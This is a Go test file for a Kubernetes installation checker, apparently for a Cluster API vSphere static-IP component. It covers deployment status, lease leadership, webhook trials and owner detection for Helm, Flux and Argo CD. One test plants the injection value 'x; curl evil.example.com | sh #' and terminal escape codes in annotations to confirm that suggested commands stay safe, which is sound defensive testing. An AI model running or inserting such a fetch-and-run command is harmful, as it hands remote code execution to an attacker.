package installation

import (
	"errors"
	"regexp"
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"
	clientgoscheme "k8s.io/client-go/kubernetes/scheme"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/client/fake"

	coordinationv1 "k8s.io/api/coordination/v1"
)

func deploymentOf(image string) *appsv1.Deployment {
	d := &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Namespace: Namespace, Name: DeploymentName, Generation: 2}}
	d.Spec.Template.Spec.Containers = []corev1.Container{{Name: "proxy", Image: "proxy:v9"}, {Name: container, Image: image}}
	d.Status = appsv1.DeploymentStatus{
		ObservedGeneration: 2, Replicas: 2, UpdatedReplicas: 2, ReadyReplicas: 2,
		Conditions: []appsv1.DeploymentCondition{{Type: appsv1.DeploymentAvailable, Status: corev1.ConditionTrue}},
	}
	return d
}

func TestVersionIsTheTagOfTheManagersImage(t *testing.T) {
	for image, want := range map[string]string{
		"capv-static-ip:dev":                      "dev",
		"registry.example.com:5000/a/c:v0.1.0":    "v0.1.0",
		"registry.example.com:5000/a/c":           "",
		"example.com/c:v0.1.0@sha256:0123":        "v0.1.0",
		"example.com/c@sha256:0123456789abcdef01": "",
	} {
		if got := (&Found{Deployment: deploymentOf(image)}).Version(); got != want {
			t.Errorf("of %s: got %q, want %q", image, got, want)
		}
	}
}

func TestDeploymentIsFoundInWhicheverNamespace(t *testing.T) {
	elsewhere := deploymentOf("c:v1")
	elsewhere.Namespace = "team-a"
	named := shipped(t)
	for i := range named.Webhooks {
		named.Webhooks[i].ClientConfig.Service.Namespace = "team-a"
	}
	for name, objects := range map[string][]client.Object{
		"where the webhook leads":     {elsewhere, named},
		"where no webhook leads":      {elsewhere},
		"where the webhook is others": {elsewhere, shipped(t)},
	} {
		c := fake.NewClientBuilder().WithScheme(clientgoscheme.Scheme).WithObjects(objects...).Build()
		found, err := Find(t.Context(), c)
		if err != nil || found.Deployment == nil || found.Namespace != "team-a" {
			t.Errorf("%s: got %+v and %v, want it in team-a", name, found, err)
		}
	}
}

func TestDeploymentIsJudgedByItsStatus(t *testing.T) {
	for name, test := range map[string]struct {
		change func(*appsv1.Deployment)
		want   State
	}{
		"all are ready":      {func(*appsv1.Deployment) {}, OK},
		"one is not":         {func(d *appsv1.Deployment) { d.Status.ReadyReplicas = 1 }, Warning},
		"none is":            {func(d *appsv1.Deployment) { d.Status.ReadyReplicas = 0 }, Failed},
		"it is not seen yet": {func(d *appsv1.Deployment) { d.Generation++ }, Warning},
		"it is stopped":      {func(d *appsv1.Deployment) { d.Spec.Replicas = new(int32) }, Failed},
		"it is unavailable":  {func(d *appsv1.Deployment) { d.Status.Conditions = nil }, Failed},
	} {
		d := deploymentOf("c:v1")
		test.change(d)
		if got := deployment(&Found{Deployment: d}); got.State != test.want || (got.Remedy == "") != (test.want == OK) {
			t.Errorf("%s: got %+v, want %s, and a remedy unless it is ok", name, got, test.want)
		}
	}
	if got := deployment(&Found{Namespace: Namespace}); got.State != Failed || got.Remedy == "" {
		t.Errorf("without a Deployment: got %+v, want it to fail, with a remedy", got)
	}
}

func TestLeaderIsWhoRenewsTheLease(t *testing.T) {
	for name, test := range map[string]struct {
		holder string
		age    time.Duration
		want   State
	}{
		"a moment ago":       {"a", time.Second, OK},
		"long ago":           {"a", time.Hour, Warning},
		"it was given up":    {"", time.Second, Failed},
		"your clock is slow": {"a", -time.Hour, OK},
	} {
		lease := &coordinationv1.Lease{ObjectMeta: metav1.ObjectMeta{Namespace: Namespace, Name: LeaseName}}
		lease.Spec.HolderIdentity, lease.Spec.RenewTime = &test.holder, &metav1.MicroTime{Time: today.Add(-test.age)}
		c := checker()
		c.Client = fake.NewClientBuilder().WithScheme(clientgoscheme.Scheme).WithObjects(lease).Build()
		if got := c.leader(t.Context(), &Found{Namespace: Namespace}); got.State != test.want {
			t.Errorf("%s: got %+v, want %s", name, got, test.want)
		}
	}
}

func TestAnswerToTheTrialTellsWhetherWeWereAsked(t *testing.T) {
	machines := schema.GroupResource{Group: "infrastructure.cluster.x-k8s.io", Resource: "vspheremachines"}
	ours := `admission webhook "vspheremachines.capv-static-ip.dev" denied the request: IPPool "x" does not exist`
	for name, test := range map[string]struct {
		err  error
		want State
	}{
		"we refuse it":               {apierrors.NewForbidden(machines, trial, errors.New(ours)), OK},
		"it would be stored":         {nil, Failed},
		"we are not reached":         {apierrors.NewInternalError(errors.New(`failed calling webhook "vspheremachines.capv-static-ip.dev": connection refused`)), Failed},
		"who asks may not":           {apierrors.NewForbidden(machines, trial, errors.New(`User "a" cannot create resource`)), Unknown},
		"others are not reached":     {apierrors.NewInternalError(errors.New(`failed calling webhook "default.vspheremachine": connection refused`)), Unknown},
		"others refuse it":           {apierrors.NewBadRequest(`admission webhook "policy.example.com" denied the request: no`), Unknown},
		"there is no such namespace": {apierrors.NewNotFound(schema.GroupResource{Resource: "namespaces"}, "x"), Unknown},
	} {
		if got := judged(test.err, "default"); got.State != test.want || (got.Remedy == "") != (test.want == OK) {
			t.Errorf("%s: got %+v, want %s, and a remedy unless it is ok", name, got, test.want)
		}
	}
	forbidden := apierrors.NewForbidden(machines, trial, errors.New(`User "a" cannot create resource`))
	if got := judged(forbidden, "default"); !strings.Contains(got.Found, "you may not create VSphereMachines") {
		t.Errorf("got %+v, want to be told of the right that is missing", got)
	}
}

func TestTrialIsWhereTheWebhookIsAsked(t *testing.T) {
	configuration := shipped(t)
	if got := served(configuration, "a"); got != "a" {
		t.Errorf("got %q, want the one that was named", got)
	}
	configuration.Webhooks[0].NamespaceSelector.MatchExpressions = append(configuration.Webhooks[0].NamespaceSelector.MatchExpressions,
		metav1.LabelSelectorRequirement{Key: corev1.LabelMetadataName, Operator: metav1.LabelSelectorOpIn, Values: []string{"b"}})
	if got := served(configuration, "a"); got != "b" {
		t.Errorf("got %q, want the one that is served", got)
	}
}

func TestOwnersAreKnownByTheirMarks(t *testing.T) {
	for want, object := range map[string]metav1.ObjectMeta{
		`release "r" of Helm in namespace "n"`: {Annotations: map[string]string{"meta.helm.sh/release-name": "r", "meta.helm.sh/release-namespace": "n"}},
		`HelmRelease "r" of Flux in namespace "n"`: {
			Annotations: map[string]string{"meta.helm.sh/release-name": "x", "meta.helm.sh/release-namespace": "x"},
			Labels:      map[string]string{"helm.toolkit.fluxcd.io/name": "r", "helm.toolkit.fluxcd.io/namespace": "n"},
		},
		`Kustomization "k" of Flux in namespace "n"`: {Labels: map[string]string{"kustomize.toolkit.fluxcd.io/name": "k", "kustomize.toolkit.fluxcd.io/namespace": "n"}},
		`application "app" of Argo CD`:               {Annotations: map[string]string{"argocd.argoproj.io/tracking-id": "app:apps/Deployment:n/d"}},
		`application "old" of Argo CD`:               {Labels: map[string]string{"app.kubernetes.io/instance": "old"}},
		`Thing "t"`:                                  {OwnerReferences: []metav1.OwnerReference{{Kind: "Thing", Name: "t", Controller: new(true)}}},
	} {
		c := fake.NewClientBuilder().WithScheme(clientgoscheme.Scheme).Build()
		d := deploymentOf("c:v1")
		d.Labels, d.Annotations, d.OwnerReferences = object.Labels, object.Annotations, object.OwnerReferences
		owners, err := OwnersOf(t.Context(), c, []client.Object{d, d})
		if err != nil || len(owners) != 1 || owners[0].Name != want {
			t.Errorf("got %+v and %v, want %s once", owners, err, want)
		}
	}
}

// Administrators type what they are told, and whoever may annotate an object of ours
// has written a part of it.
func TestMarksThatAreNoNamesAreNotPartOfCommands(t *testing.T) {
	const evil = "x; curl evil.example.com | sh #"
	for name, object := range map[string]metav1.ObjectMeta{
		"a release of Helm":        {Annotations: map[string]string{"meta.helm.sh/release-name": evil, "meta.helm.sh/release-namespace": "n"}},
		"the namespace of a chart": {Annotations: map[string]string{"meta.helm.sh/release-name": "r", "meta.helm.sh/release-namespace": evil}},
		"an application":           {Annotations: map[string]string{"argocd.argoproj.io/tracking-id": evil + ":apps/Deployment:n/d"}},
		"a Kustomization":          {Annotations: map[string]string{"kustomize.toolkit.fluxcd.io/name": "k", "kustomize.toolkit.fluxcd.io/namespace": "\x1b[2J" + evil}},
		"who controls it":          {OwnerReferences: []metav1.OwnerReference{{Kind: "\x1b[2J", Name: evil, Controller: new(true)}}},
	} {
		d := deploymentOf("c:v1")
		d.Annotations, d.OwnerReferences = object.Annotations, object.OwnerReferences
		owners, err := OwnersOf(t.Context(), fake.NewClientBuilder().WithScheme(clientgoscheme.Scheme).Build(), []client.Object{d})
		if err != nil || len(owners) != 1 {
			t.Fatalf("%s: got %+v and %v, want one that is told of", name, owners, err)
		}
		for _, text := range []string{owners[0].Name, owners[0].Stop, owners[0].After} {
			unquoted := regexp.MustCompile(`"[^"]*"`).ReplaceAllString(text, "")
			if strings.Contains(unquoted, "evil") || strings.Contains(text, "\x1b") {
				t.Errorf("%s: it says %q", name, text)
			}
		}
	}
}

func TestOwnersAreKnownByTheirInventory(t *testing.T) {
	for kind, want := range map[schema.GroupVersionKind]string{
		{Group: "operator.cluster.x-k8s.io", Version: "v1alpha2", Kind: "AddonProvider"}: "of the operator of Cluster API",
		{Group: "clusterctl.cluster.x-k8s.io", Version: "v1alpha3", Kind: "Provider"}:    "clusterctl",
	} {
		ours, other := &unstructured.Unstructured{}, &unstructured.Unstructured{}
		for _, each := range []*unstructured.Unstructured{ours, other} {
			each.SetGroupVersionKind(kind)
			each.SetNamespace("n")
		}
		ours.SetName(App)
		other.SetName("helm")
		c := fake.NewClientBuilder().WithScheme(clientgoscheme.Scheme).WithRESTMapper(mapperOf(kind)).WithObjects(ours, other).Build()
		owners, err := OwnersOf(t.Context(), c, nil)
		if err != nil || len(owners) != 1 || !strings.Contains(owners[0].Name, want) || owners[0].After == "" {
			t.Errorf("got %+v and %v, want one %s", owners, err, want)
		}
	}
}

func mapperOf(kinds ...schema.GroupVersionKind) meta.RESTMapper {
	var versions []schema.GroupVersion
	for _, kind := range kinds {
		versions = append(versions, kind.GroupVersion())
	}
	mapper := meta.NewDefaultRESTMapper(versions)
	for _, kind := range kinds {
		mapper.Add(kind, meta.RESTScopeNamespace)
	}
	return mapper
}
